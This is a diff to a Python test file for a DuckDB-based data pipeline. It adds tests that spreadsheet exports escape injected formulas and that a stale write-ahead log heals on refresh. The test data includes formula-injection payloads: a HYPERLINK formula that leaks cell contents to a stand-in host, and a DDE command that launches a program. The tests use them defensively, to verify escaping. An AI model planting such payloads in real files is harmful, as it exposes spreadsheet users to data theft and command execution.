@@ -1,6 +1,9 @@
 """Issue 5: the published read-only copy (and an analyst session that never blocks a refresh), the exports'
 round trip, and the offline report opened in a real headless Chromium."""
 
+import csv
+import shutil
+
 import duckdb
 import pandas as pd
 import pytest
@@ -104,3 +107,75 @@ def test_report_renders_offline_in_headless_chromium(built, chromium_page, name)
     assert "Västerbotten" in text
     shot = chromium_page.screenshot(ARTIFACTS / name.replace(".html", ".png"))
     assert shot.stat().st_size > 10_000
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Källa")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1",
+            "-2+3", "\tx"]
+
+
+def test_exports_never_write_a_live_formula(built, tmp_path):
+    """An inbox citation like =HYPERLINK(...) or =cmd|... must reach the workbook as text and the CSV with the
+    quote OWASP recommends; a publish folder with an apostrophe must not break the SQL that writes the files."""
+    import openpyxl
+
+    from orchestration.exports import export_files, export_workbook
+    from orchestration.project import dbt_project
+
+    db = tmp_path / "metric.duckdb"
+    shutil.copy2(built["warehouse"], db)
+    con = duckdb.connect(str(db))
+    try:
+        ids = [r[0] for r in con.execute("select distinct indicator_id from marts.mart_fou order by 1 limit ?",
+                                         [len(FORMULAS)]).fetchall()]
+        for text, indicator in zip(FORMULAS, ids):
+            con.execute("update marts.mart_fou set citation = ? where indicator_id = ?", [text, indicator])
+        target = tmp_path / "it's published"
+        export_files(con, target)
+        sheets = export_workbook(con, target / "metric.xlsx", dbt_project.manifest_path)
+    finally:
+        con.close()
+    with (target / "csv" / "mart_fou.csv").open(encoding="utf-8", newline="") as handle:
+        citations = [row["citation"] for row in csv.DictReader(handle)]
+    for text in FORMULAS:
+        assert "'" + text in citations and text not in citations
+    assert not any(c[:1] in "=+-@\t\r" for c in citations)
+    book = openpyxl.load_workbook(target / "metric.xlsx")
+    sheet = book[next(name for name, table in sheets.items() if table == "marts.mart_fou")]
+    header = [cell.value for cell in sheet[1]]
+    column = header.index("citation") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+    assert {c.value for c in cells} >= set(FORMULAS)
+    assert all(c.data_type == "s" for c in cells)  # strings, never formulas
+
+
+def _foreign_wal(tmp_path) -> bytes:
+    """The write-ahead log of another database file, left behind as a crashed writer leaves one."""
+    other = tmp_path / "other.duckdb"
+    con = duckdb.connect(str(other))
+    con.execute("pragma disable_checkpoint_on_shutdown")
+    con.execute("create table t as select 1 as x")
+    con.close()
+    return (tmp_path / "other.duckdb.wal").read_bytes()
+
+
+def test_a_stale_wal_beside_the_warehouse_or_the_published_copy_heals_on_refresh(warehouse_copy, tmp_path):
+    wal = _foreign_wal(tmp_path)
+    warehouse = warehouse_copy / "warehouse" / "metric.duckdb"
+    (warehouse_copy / "warehouse" / "metric.duckdb.wal").write_bytes(wal)
+    code, output = run_pipeline(warehouse_copy, selection="key:raw/ukae or key:publish/database")
+    assert code == 0, output
+    assert "moved a stale write-ahead log" in output
+    assert not (warehouse_copy / "warehouse" / "metric.duckdb.wal").exists()
+    assert list((warehouse_copy / "warehouse").glob("metric.duckdb.wal.stale-*"))  # kept aside, not deleted
+    published = warehouse_copy / "publish" / "metric.duckdb"
+    assert published.stat().st_mode & 0o222 == 0  # read-only by construction
+    (warehouse_copy / "publish" / "metric.duckdb.wal").write_bytes(wal)  # an analyst's write left a WAL
+    code, output = run_pipeline(warehouse_copy, selection="key:publish/database")
+    assert code == 0, output
+    con = duckdb.connect(str(published), read_only=True)
+    try:
+        assert con.execute("select count(*) from marts.fct_indicator_values").fetchone()[0] > 0
+    finally:
+        con.close()
+    con = duckdb.connect(str(warehouse), read_only=True)
+    con.close()
